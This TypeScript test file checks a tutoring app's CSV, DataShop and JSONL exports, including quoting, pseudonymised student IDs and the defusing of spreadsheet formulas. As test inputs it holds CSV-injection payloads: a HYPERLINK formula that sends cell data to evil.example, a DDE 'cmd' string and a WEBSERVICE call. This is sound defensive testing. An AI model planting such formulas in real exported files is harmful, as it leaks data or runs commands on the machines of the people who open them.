import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { hintDraft, lineDraft, modelLineDraft, spotDraft, type EventDraft, type LogEvent } from "@/lib/practice/log-event";
import { EXPORT_FORMATS, isExportFormat } from "@/lib/review/export-formats";
import {
  DATASHOP_COLUMNS,
  EVENTS_CSV_COLUMNS,
  datashopTransactions,
  defuseFormula,
  eventsCsv,
  researchJsonl,
  studentPseudonym,
} from "@/lib/review/exports";
import type { ReviewSession } from "@/lib/review/types";
import { addition, polynomial, python } from "@/lib/scratchpad";
import type { RegisteredTask } from "@/lib/scratchpad";
import { FORMATS_PROGRAM, FORMATS_TRACE } from "./python-fixtures";

// ---------------------------------------------------------------------------------------
// Sessions built by hand, with real verdicts from the task modules.

const START = Date.UTC(2026, 10, 26, 9, 5, 3, 7);

function logOf(drafts: EventDraft[]): LogEvent[] {
  return drafts.map((draft, i) => ({ ...draft, seq: i + 1, createdAt: new Date(START + i * 1500).toISOString() }));
}

function unwrap<T>(parsed: { ok: true; value: T } | { ok: false; error: string }): T {
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.value;
}

function student(task: RegisteredTask, problem: unknown, index: number, text: string): EventDraft {
  return lineDraft(index, text, task.judgeLine(problem, index, text));
}
function model(task: RegisteredTask, problem: unknown, index: number, text: string, actor: "model" | "app" = "model"): EventDraft {
  return modelLineDraft(index, text, task.judgeLine(problem, index, text, { actor: "model" }), { modelId: "tiny-lm", variant: "scratchpad", actor });
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const DDE = "-2+3+cmd|' /C calc'!A0";

// S1: addition 29 + 57, alone, a name with comma, quotes and a newline.
const add = addition as RegisteredTask;
const addProblem = unwrap(addition.parseInput("29+57"));
const addInput = addition.formatInput(addProblem);
const addTarget = addition.target(addProblem);
const addRef = addition.referenceLines(addProblem);
const s1Drafts: EventDraft[] = [
  student(add, addProblem, 1, "2 9\t+ 5 7 , C: 0"),
  hintDraft(2, addition.hint(addProblem, 2, 1)),
  student(add, addProblem, 2, "2 + 5 , 5 C: 1"),
  hintDraft(2, addition.hint(addProblem, 2, 2)),
  student(add, addProblem, 2, addRef[2]!.text),
  student(add, addProblem, 3, HYPERLINK),
  student(add, addProblem, 3, addRef[3]!.text),
  student(add, addProblem, 4, addRef[4]!.text),
  student(add, addProblem, 6, addRef[6]!.text),
];
const s1: ReviewSession = {
  id: "sess-1",
  student: { id: "stu-1", name: 'Doe, Jane "JJ"\nSmith' },
  classId: "class-a",
  assignment: { id: "asg-1", title: "Week 1" },
  problem: { id: "prob-add", kind: "addition", input: addInput, target: addTarget, title: null },
  mode: "alone",
  modelId: null,
  status: "solved",
  startedAt: new Date(START).toISOString(),
  solvedAt: new Date(START + 20_000).toISOString(),
  events: logOf(s1Drafts),
};

// S2: polynomial, taking turns with a model, a Japanese name.
const poly = polynomial as RegisteredTask;
const polyProblem = unwrap(polynomial.parseInput("Evaluate 3*x**2 - 5*x + 7 at x = 4"));
const polyInput = polynomial.formatInput(polyProblem);
const polyTarget = polynomial.target(polyProblem);
const s2Drafts: EventDraft[] = [
  student(poly, polyProblem, 1, "3*x**2: 48"),
  model(poly, polyProblem, 2, "-5*x: 20"),
  student(poly, polyProblem, 2, "-5*x: 20"),
  student(poly, polyProblem, 2, "-5*x: -20"),
  model(poly, polyProblem, 3, "7: 7"),
  student(poly, polyProblem, 5, DDE),
  hintDraft(5, polynomial.hint(polyProblem, 5, 1)),
  student(poly, polyProblem, 5, "35"),
];
const s2: ReviewSession = {
  id: "sess-2",
  student: { id: "stu-2", name: "山田 太郎" },
  classId: null,
  assignment: null,
  problem: { id: "prob-poly", kind: "polynomial", input: polyInput, target: polyTarget, title: null },
  mode: "turns",
  modelId: "tiny-lm",
  status: "solved",
  startedAt: new Date(START).toISOString(),
  solvedAt: null,
  events: logOf(s2Drafts),
};

// S3: Python, Spot the error, with a planted line and an "all correct" pick (wrong).
const py = python as RegisteredTask;
const pyProblem = unwrap(python.fromStored!(FORMATS_PROGRAM, FORMATS_TRACE));
const pyLines = FORMATS_TRACE.split("\n");
const s3Drafts: EventDraft[] = [
  model(py, pyProblem, 0, pyLines[0]!),
  model(py, pyProblem, 1, pyLines[1]!),
  model(py, pyProblem, 2, pyLines[2]!),
  model(py, pyProblem, 2, 'state: {"remove_Occ": 1}', "app"),
  model(py, pyProblem, 3, pyLines[3]!),
  spotDraft(-1, false),
];
const s3: ReviewSession = {
  id: "sess-3",
  student: { id: "stu-3", name: "@admin =1+1" },
  classId: "class-a",
  assignment: null,
  problem: { id: "prob-py", kind: "python", input: FORMATS_PROGRAM, target: FORMATS_TRACE, title: "Remove\toccurrences" },
  mode: "spot",
  modelId: "tiny-lm",
  status: "active",
  startedAt: new Date(START).toISOString(),
  solvedAt: null,
  events: logOf(s3Drafts),
};

const SESSIONS = [s1, s2, s3];

// ---------------------------------------------------------------------------------------
// A tiny RFC 4180 parser, strict about quoting.

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i += 1;
        if (i < text.length && text[i] !== "," && text[i] !== "\r") throw new Error(`junk after quote at ${i}`);
      } else {
        field += c;
        i += 1;
      }
    } else if (c === '"') {
      if (field !== "") throw new Error(`quote inside unquoted field at ${i}`);
      quoted = true;
      i += 1;
    } else if (c === ",") {
      row.push(field);
      field = "";
      i += 1;
    } else if (c === "\r") {
      if (text[i + 1] !== "\n") throw new Error(`bare CR at ${i}`);
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i += 2;
    } else if (c === "\n") {
      throw new Error(`bare LF at ${i}`);
    } else {
      field += c;
      i += 1;
    }
  }
  if (quoted) throw new Error("unterminated quote");
  if (field !== "" || row.length > 0) throw new Error("last record not terminated by CRLF");
  return rows;
}

/** Undo the export's formula defusing (module doc: drop one leading apostrophe). */
const undo = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

function csvTable() {
  const text = eventsCsv(SESSIONS);
  expect(text.startsWith("\uFEFF")).toBe(true);
  const [header, ...rows] = parseCsv(text.slice(1));
  const records = rows.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i]!])));
  return { text, header: header!, rows, records };
}

// ---------------------------------------------------------------------------------------

describe("formula defusing", () => {
  it.each([
    [HYPERLINK, `'${HYPERLINK}`],
    ["+1+1", "'+1+1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tx", "'\tx"],
    ["\r=1", "'\r=1"],
    ["'already", "''already"],
    ["＝1+1", "'＝1+1"],
    [DDE, `'${DDE}`],
    ["-SUM(1,2)", "'-SUM(1,2)"],
    ['-"a"&"b"', `'-"a"&"b"`],
    ["-1+WEBSERVICE(A1)", "'-1+WEBSERVICE(A1)"],
    // The scratchpad's own lines survive untouched.
    ["-5*x: -20", "-5*x: -20"],
    ["-x**2: -16", "-x**2: -16"],
    ["-10*x**3: 2560", "-10*x**3: 2560"],
    ["-20", "-20"],
    ["-", "-"],
    ["2 + 5 , 6 C: 1 # added 9 + 7 = 6 carry 1", "2 + 5 , 6 C: 1 # added 9 + 7 = 6 carry 1"],
    ["山田 太郎", "山田 太郎"],
    ["", ""],
  ])("%j -> %j", (cell, expected) => {
    expect(defuseFormula(cell)).toBe(expected);
    expect(undo(defuseFormula(cell))).toBe(cell);
  });
});

describe("eventsCsv", () => {
  it("writes a header and one well-formed record per event", () => {
    const { text, header, rows } = csvTable();
    expect(header).toEqual([...EVENTS_CSV_COLUMNS]);
    expect(header.slice(0, 22)).toEqual(
      "session_id,student_id,student_name,class_id,assignment_id,problem_id,kind,problem_input,mode,model_id,seq,time,actor,type,line_number,step_role,text,ok,expected,message,diagnosis_id,hint_level".split(","),
    );
    expect(rows).toHaveLength(s1.events.length + s2.events.length + s3.events.length);
    for (const row of rows) expect(row).toHaveLength(header.length);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(eventsCsv(SESSIONS, { bom: false })).toBe(text.slice(1));
  });

  it("round-trips names with commas, quotes, newlines and Japanese text", () => {
    const { records } = csvTable();
    const names = new Set(records.map((r) => undo(r.student_name!)));
    expect(names).toEqual(new Set([s1.student.name, s2.student.name, s3.student.name]));
    // Multi-line Python input survives inside quotes.
    expect(records.find((r) => r.session_id === "sess-3")!.problem_input).toBe(FORMATS_PROGRAM);
    // A name starting with @ is defused and restorable.
    expect(records.find((r) => r.session_id === "sess-3")!.student_name).toBe(`'${s3.student.name}`);
  });

  it("every text cell undoes to the log's value; numbers are written raw", () => {
    const { records } = csvTable();
    const events = SESSIONS.flatMap((session) => session.events.map((event) => ({ session, event })));
    records.forEach((r, i) => {
      const { session, event } = events[i]!;
      expect(r.session_id).toBe(session.id);
      expect(Number(r.seq)).toBe(event.seq);
      expect(r.time).toBe(event.createdAt);
      expect(undo(r.text!)).toBe(event.text);
      expect(undo(r.expected!)).toBe(event.verdict?.expected ?? "");
      expect(undo(r.message!)).toBe(event.verdict?.message ?? "");
      expect(r.ok).toBe(event.ok === null ? "" : String(event.ok));
      expect(r.hint_level).toBe(event.hintLevel === null ? "" : String(event.hintLevel));
      expect(r.actor).toBe(event.actor);
    });
  });

  it("defuses a formula a student typed but keeps polynomial lines as written", () => {
    const { records } = csvTable();
    const hyperlink = records.find((r) => r.text!.includes("HYPERLINK"))!;
    expect(hyperlink.text).toBe(`'${HYPERLINK}`);
    expect(hyperlink.ok).toBe("false");
    const dde = records.find((r) => r.text!.includes("cmd|"))!;
    expect(dde.text).toBe(`'${DDE}`);

    const s2rows = records.filter((r) => r.session_id === "sess-2");
    const right = s2rows.find((r) => r.actor === "student" && r.line_number === "3" && r.ok === "true")!;
    expect(right.text).toBe("-5*x: -20");
    expect(right.expected).toBe("-5*x: -20");
    expect(right.ok).toBe("true");
    const wrong = s2rows.find((r) => r.actor === "model" && r.line_number === "3")!;
    expect(wrong.text).toBe("-5*x: 20");
    expect(wrong.diagnosis_id).toBe("sign-error");
    expect(wrong.model_id).toBe("tiny-lm");
    expect(wrong.variant).toBe("scratchpad");
  });

  it("gives 1-based line numbers with their roles, and none for an 'all correct' pick", () => {
    const { records } = csvTable();
    const s1rows = records.filter((r) => r.session_id === "sess-1");
    expect(s1rows.map((r) => [r.type, r.line_number, r.step_role])).toEqual([
      ["line", "2", "start"],
      ["hint", "3", "column"],
      ["line", "3", "column"],
      ["hint", "3", "column"],
      ["line", "3", "column"],
      ["line", "4", "column"],
      ["line", "4", "column"],
      ["line", "5", "final"],
      ["line", "7", "answer"],
    ]);
    expect(s1rows[0]!.class_id).toBe("class-a");
    expect(s1rows[0]!.assignment_id).toBe("asg-1");
    const spot = records.find((r) => r.type === "spot")!;
    expect([spot.line_number, spot.step_role, spot.text, spot.ok]).toEqual(["", "", "all correct", "false"]);
    const planted = records.find((r) => r.actor === "app")!;
    expect([planted.line_number, planted.step_role, planted.ok]).toEqual(["3", "state", "false"]);
  });

  it("does not fail on a problem whose kind is no longer supported", () => {
    const odd: ReviewSession = { ...s1, problem: { ...s1.problem, kind: "division" } };
    const rows = parseCsv(eventsCsv([odd], { bom: false }));
    expect(rows).toHaveLength(s1.events.length + 1);
    expect(rows[1]![EVENTS_CSV_COLUMNS.indexOf("step_role")]).toBe("");
  });
});

describe("datashopTransactions", () => {
  const text = datashopTransactions(SESSIONS);
  const lines = text.split("\n");
  const [header, ...body] = lines.slice(0, -1);
  const rows = body.map((line) => Object.fromEntries(DATASHOP_COLUMNS.map((name, i) => [name, line.split("\t")[i]!])));

  it("writes the exact header and one row per student transaction, no stray tabs or newlines", () => {
    expect(header).toBe(
      "Anon Student Id\tSession Id\tTime\tProblem Name\tStep Name\tAttempt At Step\tOutcome\tSelection\tAction\tInput\tFeedback Text\tFeedback Classification\tHelp Level\tKC (Skill)\tLevel (Class)",
    );
    expect(lines.at(-1)).toBe("");
    expect(text).not.toContain("\r");
    for (const line of body) expect(line.split("\t")).toHaveLength(DATASHOP_COLUMNS.length);
    const studentEvents = SESSIONS.flatMap((s) => s.events).filter((e) => e.actor === "student");
    expect(rows).toHaveLength(studentEvents.length);
    // Model lines and planted lines are not student transactions.
    expect(rows.some((r) => r.Input === "7: 7")).toBe(false);
    expect(rows.filter((r) => r.Input === "-5*x: 20")).toHaveLength(1); // the student's, not the model's
    expect(rows.filter((r) => r["Session Id"] === "sess-3")).toHaveLength(1);
  });

  it("counts attempts per step, hints included, with outcomes and actions", () => {
    const s1rows = rows.filter((r) => r["Session Id"] === "sess-1");
    expect(s1rows.map((r) => [r["Step Name"], r["Attempt At Step"], r.Outcome, r.Action, r["Help Level"]])).toEqual([
      ["line 2: start", "1", "CORRECT", "write line", ""],
      ["line 3: column", "1", "HINT", "request hint", "1"],
      ["line 3: column", "2", "INCORRECT", "write line", ""],
      ["line 3: column", "3", "HINT", "request hint", "2"],
      ["line 3: column", "4", "CORRECT", "write line", ""],
      ["line 4: column", "1", "INCORRECT", "write line", ""],
      ["line 4: column", "2", "CORRECT", "write line", ""],
      ["line 5: final", "1", "CORRECT", "write line", ""],
      ["line 7: answer", "1", "CORRECT", "write line", ""],
    ]);
    for (const r of s1rows) {
      expect(r.Selection).toBe(r["Step Name"]);
      expect(r["Problem Name"]).toBe("addition: 2 9 + 5 7");
      expect(r["Level (Class)"]).toBe("class-a");
    }
    expect(s1rows[0]!.Input).toBe("2 9 + 5 7 , C: 0"); // the tab became a space
    expect(s1rows[1]!.Input).toBe("");
    expect(s1rows[1]!["Feedback Text"]).toBe(addition.hint(addProblem, 2, 1).text);
    expect(s1rows[2]!["Feedback Text"]).toBe(s1.events[2]!.verdict!.message);
    expect(s1rows[2]!["KC (Skill)"]).toBe("addition:column");
    expect(s1rows[5]!.Input).toBe(`'${HYPERLINK}`);

    // Turns: the model's wrong line 3 is not the student's attempt.
    const s2rows = rows.filter((r) => r["Session Id"] === "sess-2");
    expect(s2rows.map((r) => [r["Step Name"], r["Attempt At Step"], r.Outcome])).toEqual([
      ["line 2: term", "1", "CORRECT"],
      ["line 3: term", "1", "INCORRECT"],
      ["line 3: term", "2", "CORRECT"],
      ["line 6: answer", "1", "INCORRECT"],
      ["line 6: answer", "2", "HINT"],
      ["line 6: answer", "3", "CORRECT"],
    ]);
    expect(s2rows[1]!.Input).toBe("-5*x: 20");
    expect(s2rows[1]!["Feedback Classification"]).toBe("sign-error");
    expect(s2rows[2]!.Input).toBe("-5*x: -20");
    expect(s2rows[2]!["Feedback Classification"]).toBe("");
    expect(s2rows[0]!["Level (Class)"]).toBe("");
    expect(s2rows[0]!["Problem Name"]).toBe("polynomial: Evaluate 3*x**2 - 5*x + 7 at x = 4");

    const spot = rows.find((r) => r["Session Id"] === "sess-3")!;
    expect([spot["Step Name"], spot.Outcome, spot.Action, spot.Input, spot["KC (Skill)"]]).toEqual([
      "spot the error",
      "INCORRECT",
      "pick first wrong line",
      "all correct",
      "python:spot",
    ]);
    expect(spot["Problem Name"]).toBe("python: Remove occurrences");
  });

  it("writes UTC times as YYYY-MM-DD HH:mm:ss.SSS and pseudonymous student ids", () => {
    for (const r of rows) expect(r.Time).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\.\d{3}$/);
    expect(rows[0]!.Time).toBe("2026-11-26 09:05:03.007");
    expect(rows[1]!.Time).toBe("2026-11-26 09:05:04.507");
    expect(rows[0]!["Anon Student Id"]).toBe(studentPseudonym("stu-1"));
    for (const s of SESSIONS) expect(text).not.toContain(s.student.name.split(/[ ,\n]/)[0]!);
  });
});

describe("every tabular export defuses what a student types; JSON Lines keeps it", () => {
  /** Lines a student may send (tabs and line separators included), each a row of every table. */
  const TYPED = [
    '=HYPERLINK("http://x","y")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1+1",
    "a\tb",
    "\r\n=1",
    "a\nb",
    "a\u2028b\u0085c\u000bd",
    "-5*x: -20",
  ];
  const session: ReviewSession = {
    ...s1,
    id: "sess-typed",
    student: { id: "stu-typed", name: "=1+1" },
    events: logOf(TYPED.map((text) => student(add, addProblem, 1, text))),
  };
  /** What a spreadsheet would run: a formula's first character, or a `-` that starts more than a number or a scratchpad line. */
  const runnable = (cell: string) => /^[=+@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) || (cell.startsWith("-") && !/^-[0-9x*: -]*$/.test(cell));

  it("the event CSV: each typed line defused, undone to what was typed", () => {
    const [header, ...rows] = parseCsv(eventsCsv([session], { bom: false }));
    const text = header!.indexOf("text");
    expect(rows.map((cells) => cells[text])).toEqual([
      `'=HYPERLINK("http://x","y")`,
      "'+1",
      "'-1+2",
      "'@SUM(A1)",
      "'\t=1+1",
      "a\tb",
      "'\r\n=1",
      "a\nb",
      "a\u2028b\u0085c\u000bd",
      "-5*x: -20",
    ]);
    expect(rows.map((cells) => undo(cells[text]!))).toEqual(TYPED);
    for (const cells of rows) for (const cell of cells) expect(runnable(cell), cell).toBe(false);
  });

  it("DataShop: each typed line defused, its tabs and line breaks spaces, one row each", () => {
    const text = datashopTransactions([session]);
    const [, ...body] = text.split("\n").slice(0, -1);
    expect(body).toHaveLength(TYPED.length);
    const rows = body.map((line) => line.split("\t"));
    for (const cells of rows) expect(cells).toHaveLength(DATASHOP_COLUMNS.length);
    const input = DATASHOP_COLUMNS.indexOf("Input");
    expect(rows.map((cells) => cells[input])).toEqual([
      `'=HYPERLINK("http://x","y")`,
      "'+1",
      "'-1+2",
      "'@SUM(A1)",
      "' =1+1",
      "a b",
      "'  =1",
      "a b",
      "a b c d",
      "-5*x: -20",
    ]);
    expect(text).not.toMatch(/[\r\u000b\u000c\u001c-\u001e\u0085\u2028\u2029]/);
    for (const cells of rows) for (const cell of cells) expect(runnable(cell), cell).toBe(false);
  });

  it("JSON Lines: each line exactly as typed", () => {
    const record = JSON.parse(researchJsonl([session]).trimEnd()) as { student_lines: Array<{ text: string }> };
    expect(record.student_lines.map((line) => line.text)).toEqual(TYPED);
  });
});

describe("researchJsonl", () => {
  const text = researchJsonl(SESSIONS);
  const objects = text.trimEnd().split("\n").map((line) => JSON.parse(line));

  it("writes one parseable object per session, LF-terminated", () => {
    expect(text.endsWith("\n")).toBe(true);
    expect(text.split("\n")).toHaveLength(SESSIONS.length + 1);
    expect(objects.map((o) => o.session_id)).toEqual(["sess-1", "sess-2", "sess-3"]);
    expect(objects[0]).toMatchObject({ kind: "addition", input: addInput, target: addTarget, mode: "alone", model_id: null, solved: true, spot: null });
    expect(objects[2].input).toBe(FORMATS_PROGRAM);
    expect(objects[2].solved).toBe(false);
  });

  it("holds no student name or id, only a stable sha256 pseudonym", () => {
    for (const s of SESSIONS) {
      expect(text).not.toContain(s.student.name);
      expect(text).not.toContain(JSON.stringify(s.student.name).slice(1, -1));
      for (const part of s.student.name.split(/[\s,"]+/).filter((p) => p.length > 2)) expect(text).not.toContain(part);
      expect(text).not.toContain(`"${s.student.id}"`);
    }
    expect(text).not.toContain("name");
    const expected = createHash("sha256").update("stu-1").digest("hex").slice(0, 12);
    expect(objects[0].student).toBe(expected);
    expect(objects[0].student).toMatch(/^[0-9a-f]{12}$/);
    expect(researchJsonl([s1])).toBe(`${text.split("\n")[0]}\n`);
  });

  it("separates the student's lines, the model's lines and hints", () => {
    const [o1, o2, o3] = objects;
    expect(o1.model_lines).toEqual([]);
    expect(o1.hints).toEqual([
      { line_number: 3, level: 1, time: s1.events[1]!.createdAt },
      { line_number: 3, level: 2, time: s1.events[3]!.createdAt },
    ]);
    expect(o1.student_lines).toHaveLength(7);
    expect(o1.student_lines[1]).toEqual({ line_number: 3, role: "column", text: "2 + 5 , 5 C: 1", ok: false, diagnosis_id: null, time: s1.events[2]!.createdAt });

    expect(o2.student_lines.map((l: { text: string }) => l.text)).toEqual(["3*x**2: 48", "-5*x: 20", "-5*x: -20", DDE, "35"]);
    expect(o2.model_lines).toEqual([
      { line_number: 3, role: "term", text: "-5*x: 20", ok: false, variant: "scratchpad", actor: "model", model_id: "tiny-lm" },
      { line_number: 4, role: "term", text: "7: 7", ok: true, variant: "scratchpad", actor: "model", model_id: "tiny-lm" },
    ]);
    expect(o2.hints).toEqual([{ line_number: 6, level: 1, time: s2.events[6]!.createdAt }]);
    expect(o2.student_lines[1]).toMatchObject({ line_number: 3, ok: false, diagnosis_id: "sign-error" });

    expect(o3.student_lines).toEqual([]);
    expect(o3.model_lines.map((l: { actor: string; line_number: number; ok: boolean }) => [l.actor, l.line_number, l.ok])).toEqual([
      ["model", 1, true],
      ["model", 2, true],
      ["model", 3, true],
      ["app", 3, false],
      ["model", 4, true],
    ]);
    expect(o3.spot).toEqual({ pick_line_number: null, correct: false });
  });

  it("records a spot pick of a line by its 1-based number", () => {
    const picked: ReviewSession = { ...s3, events: logOf([...s3Drafts.slice(0, -1), spotDraft(2, true)]) };
    expect(JSON.parse(researchJsonl([picked])).spot).toEqual({ pick_line_number: 3, correct: true });
  });
});

describe("EXPORT_FORMATS", () => {
  it("maps each format to its content type, extension and builder", () => {
    expect(Object.keys(EXPORT_FORMATS)).toEqual(["csv", "datashop", "jsonl"]);
    expect(EXPORT_FORMATS.csv.build(SESSIONS)).toBe(eventsCsv(SESSIONS));
    expect(EXPORT_FORMATS.datashop.build(SESSIONS)).toBe(datashopTransactions(SESSIONS));
    expect(EXPORT_FORMATS.jsonl.build(SESSIONS)).toBe(researchJsonl(SESSIONS));
    expect(EXPORT_FORMATS.csv.contentType).toBe("text/csv; charset=utf-8");
    expect(EXPORT_FORMATS.datashop.extension).toBe("txt");
    expect(isExportFormat("jsonl")).toBe(true);
    expect(isExportFormat("toString")).toBe(false);
  });

  it("builds empty files with just a header for no sessions", () => {
    expect(eventsCsv([], { bom: false })).toBe(`${EVENTS_CSV_COLUMNS.join(",")}\r\n`);
    expect(datashopTransactions([])).toBe(`${DATASHOP_COLUMNS.join("\t")}\n`);
    expect(researchJsonl([])).toBe("");
  });
});
